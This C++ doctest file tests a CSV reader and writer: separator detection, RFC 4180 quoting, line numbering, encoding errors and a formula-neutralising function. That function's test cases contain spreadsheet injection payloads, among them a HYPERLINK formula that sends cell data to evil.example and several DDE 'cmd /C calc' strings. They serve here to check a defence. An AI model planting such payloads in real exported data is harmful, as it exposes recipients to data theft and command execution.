// CSV input and field quoting (RFC 4180; ';' or ',' from the header line).
#include "klynge/text/csv.hpp"
#include "klynge/text/error.hpp"

#include <doctest/doctest.h>

#include <ostream>
#include <sstream>
#include <string>
#include <vector>

using klynge::CsvReader;
using klynge::csvField;
using klynge::formulaSafe;
using klynge::InvalidValue;

namespace {

using Fields = std::vector<std::string>;

struct Read {
    char separator = 0;
    std::vector<std::size_t> lines;
    std::vector<Fields> records;
};

Read readAll(const std::string& text) {
    std::istringstream in(text);
    CsvReader reader(in, "medlemmer.csv");
    Read out;
    while (auto record = reader.next()) {
        out.lines.push_back(record->line);
        out.records.push_back(record->fields);
    }
    out.separator = reader.separator();
    return out;
}

std::string errorOf(const std::string& text) {
    try {
        readAll(text);
    } catch (const InvalidValue& e) {
        return e.what();
    }
    return {};
}

} // namespace

TEST_CASE("records, separators and line numbers") {
    struct Case {
        std::string name, text;
        char separator;
        std::vector<Fields> records;
        std::vector<std::size_t> lines;
    };
    const std::vector<Case> cases = {
        {"comma", "Navn,Beløb\nAnne,100\nBo,200\n", ',',
         {{"Navn", "Beløb"}, {"Anne", "100"}, {"Bo", "200"}}, {1, 2, 3}},
        {"semicolon with decimal commas", "Navn;Beløb\nAnne;1.234,50\n", ';',
         {{"Navn", "Beløb"}, {"Anne", "1.234,50"}}, {1, 2}},
        {"UTF-8 BOM and CRLF", "\xEF\xBB\xBFNavn;Beløb\r\nAnne;100\r\n", ';',
         {{"Navn", "Beløb"}, {"Anne", "100"}}, {1, 2}},
        {"no final line break", "a,b\n1,2", ',', {{"a", "b"}, {"1", "2"}}, {1, 2}},
        {"quoted separators", "Navn,Adresse\n\"Hansen, Anne\",\"Vej 1, 8000 Aarhus C\"\n", ',',
         {{"Navn", "Adresse"}, {"Hansen, Anne", "Vej 1, 8000 Aarhus C"}}, {1, 2}},
        {"escaped quotes", "Praksis;Note\n\"Lægehuset \"\"Nord\"\"\";\"\"\"\"\n", ';',
         {{"Praksis", "Note"}, {"Lægehuset \"Nord\"", "\""}}, {1, 2}},
        {"multi-line field: the record's first line counts",
         "Navn;Note\nAnne;\"linje 1\nlinje 2\nlinje 3\"\nBo;x\n", ';',
         {{"Navn", "Note"}, {"Anne", "linje 1\nlinje 2\nlinje 3"}, {"Bo", "x"}}, {1, 2, 5}},
        {"multi-line field with CRLF", "Navn;Note\r\nAnne;\"a\r\nb\"\r\nBo;x\r\n", ';',
         {{"Navn", "Note"}, {"Anne", "a\nb"}, {"Bo", "x"}}, {1, 2, 4}},
        {"blank lines are skipped but counted", "\na;b\n\n1;2\n;\n\n3;4\n\n", ';',
         {{"a", "b"}, {"1", "2"}, {"3", "4"}}, {2, 4, 7}},
        {"empty fields are kept", "a;b;c\n;2;\n", ';', {{"a", "b", "c"}, {"", "2", ""}}, {1, 2}},
        {"spaces are data", "a,b\n x , y\n", ',', {{"a", "b"}, {" x ", " y"}}, {1, 2}},
        {"old Mac line ends", "a;b\r1;2\r", ';', {{"a", "b"}, {"1", "2"}}, {1, 2}},
        {"a quote inside an unquoted field is data", "Navn;Skærm 5\"\nAnne;x\n", ';',
         {{"Navn", "Skærm 5\""}, {"Anne", "x"}}, {1, 2}},
        {"one column", "Navn\nAnne\n", ',', {{"Navn"}, {"Anne"}}, {1, 2}},
        {"quoted header line break", "\"Navn\nfuldt\";Beløb\nAnne;1\n", ';',
         {{"Navn\nfuldt", "Beløb"}, {"Anne", "1"}}, {1, 3}},
        {"empty file", "", ',', {}, {}},
        {"only a BOM", "\xEF\xBB\xBF", ',', {}, {}},
    };
    for (const auto& c : cases) {
        CAPTURE(c.name);
        const auto got = readAll(c.text);
        CHECK(got.separator == c.separator);
        CHECK(got.records == c.records);
        CHECK(got.lines == c.lines);
    }
}

TEST_CASE("the separator is the one the header uses more, outside quotes") {
    struct Case {
        std::string header;
        char separator;
    };
    const std::vector<Case> cases = {
        {"a;b;c", ';'},
        {"a,b,c", ','},
        {"a,b,c;d", ','},
        {"a;b;c,d", ';'},
        {"a;b,c", ';'},                  // a tie goes to ';'
        {"\"Navn, fulde\";Beløb", ';'}, // the comma is quoted
        {"\"a;b\",c", ','},
        {"Navn", ','},
    };
    for (const auto& c : cases) {
        CAPTURE(c.header);
        CHECK(readAll(c.header + "\n").separator == c.separator);
    }
}

TEST_CASE("malformed input names the file and line") {
    struct Case {
        std::string name, text, messageStart, messagePart;
    };
    const std::vector<Case> cases = {
        {"unterminated quote", "a;b\n1;2\n3;\"open\n4;5\n", "medlemmer.csv:3: ", "never closed"},
        {"unterminated quote in the header", "\"a;b\n", "medlemmer.csv:1: ", "never closed"},
        {"text after a closing quote", "a;b\n\"x\"y;2\n", "medlemmer.csv:2: ",
         "after the closing quote"},
        {"Latin-1 instead of UTF-8", "Navn\nS\xF8ren\n", "medlemmer.csv:2: ", "UTF-8"},
        {"overlong UTF-8", "Navn\n\xC0\xAF\n", "medlemmer.csv:2: ", "UTF-8"},
        {"UTF-16", "\xFF\xFEN\0a\0", "medlemmer.csv:1: ", "UTF-16"},
    };
    for (const auto& c : cases) {
        CAPTURE(c.name);
        const auto message = errorOf(c.text);
        CHECK(message.rfind(c.messageStart, 0) == 0);
        CHECK(message.find(c.messagePart) != std::string::npos);
        CHECK(message.find(" — ") != std::string::npos);
    }
}

TEST_CASE("the reader hands out one record at a time") {
    std::istringstream in("a;b\n1;2\n3;\"open\n");
    CsvReader reader(in, "x.csv");
    CHECK(reader.source() == "x.csv");
    REQUIRE(reader.next().has_value());
    CHECK(reader.separator() == ';');
    const auto second = reader.next();
    REQUIRE(second.has_value());
    CHECK(second->fields == Fields{"1", "2"});
    CHECK_THROWS_WITH_AS(reader.next(), doctest::Contains("x.csv:3:"), InvalidValue);
}

TEST_CASE("csvField quotes only when needed") {
    struct Case {
        std::string value;
        char separator;
        std::string written;
    };
    const std::vector<Case> cases = {
        {"Anne", ',', "Anne"},
        {"", ',', ""},
        {"Hansen, Anne", ',', "\"Hansen, Anne\""},
        {"Hansen, Anne", ';', "Hansen, Anne"},
        {"1.234,50", ';', "1.234,50"},
        {"1.234,50", ',', "\"1.234,50\""},
        {"a;b", ';', "\"a;b\""},
        {"Lægehuset \"Nord\"", ';', "\"Lægehuset \"\"Nord\"\"\""},
        {"linje 1\nlinje 2", ';', "\"linje 1\nlinje 2\""},
        {"a\rb", ';', "\"a\rb\""},
        {" foran", ';', "\" foran\""},
        {"bagved ", ';', "\"bagved \""},
        {"midt i", ';', "midt i"},
    };
    for (const auto& c : cases) {
        CAPTURE(c.value);
        CHECK(csvField(c.value, c.separator) == c.written);
    }
}

TEST_CASE("what csvField writes, the reader reads back") {
    const Fields row = {"Hansen, Anne", "Lægehuset \"Nord\"", "linje 1\nlinje 2", " x ", "",
                        "1;2"};
    for (char sep : {',', ';'}) {
        CAPTURE(sep);
        std::string text = "h1";
        text.append(1, sep).append("h2\n");
        for (std::size_t i = 0; i < row.size(); ++i) {
            if (i > 0) text.append(1, sep);
            text.append(csvField(row[i], sep));
        }
        const auto got = readAll(text.append("\n"));
        REQUIRE(got.records.size() == 2);
        CHECK(got.records[1] == row);
    }
}

TEST_CASE("formulaSafe: a formula trigger at the start of a text is neutralised (OWASP)") {
    struct Case {
        std::string text;
        std::string written;
    };
    const std::vector<Case> cases = {
        // Each trigger of OWASP's rule.
        {"=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik\")", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik\")"},
        {"=1+1", "'=1+1"},
        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "'\r=1+1"},
        {"-", "'-"},
        {"+", "'+"},
        {"=", "'="},
        {"- punktum", "'- punktum"},
        {"-1+2", "'-1+2"},
        {"1-2", "1-2"}, // only the first character matters
        {"+45 12 34 56 78", "'+45 12 34 56 78"},
        // Plain numbers cannot run anything: kept.
        {"-12", "-12"},
        {"+45", "+45"},
        {"-1234,50", "-1234,50"},
        {"-0.5", "-0.5"},
        {"-1,2,3", "'-1,2,3"},
        {"-,5", "'-,5"},
        // Everything else is untouched.
        {"", ""},
        {"Anne Ærø", "Anne Ærø"},
        {" =1+1", " =1+1"},
        {"'=1+1", "'=1+1"},
        {"a=b", "a=b"},
        {"e@mail.dk", "e@mail.dk"},
        {"2026-03-10", "2026-03-10"},
    };
    for (const auto& c : cases) {
        CAPTURE(c.text);
        CHECK(formulaSafe(c.text) == c.written);
    }
}

TEST_CASE("formulaSafe then csvField: the reader reads the neutralised text back, quoted where needed") {
    const Fields texts = {"=1+1;2", "\t=A1", "+a\nb", "-2+3", "@x \"q\""};
    std::string text = "a\n";
    for (const auto& t : texts) text += csvField(formulaSafe(t), ';') + "\n";
    // The header decides the separator; one column, so ';' must be quoted.
    const auto got = readAll("a;b\n" + text.substr(2));
    REQUIRE(got.records.size() == texts.size() + 1);
    for (std::size_t i = 0; i < texts.size(); ++i) {
        CAPTURE(texts[i]);
        CHECK(got.records[i + 1] == Fields{"'" + texts[i]});
    }
}
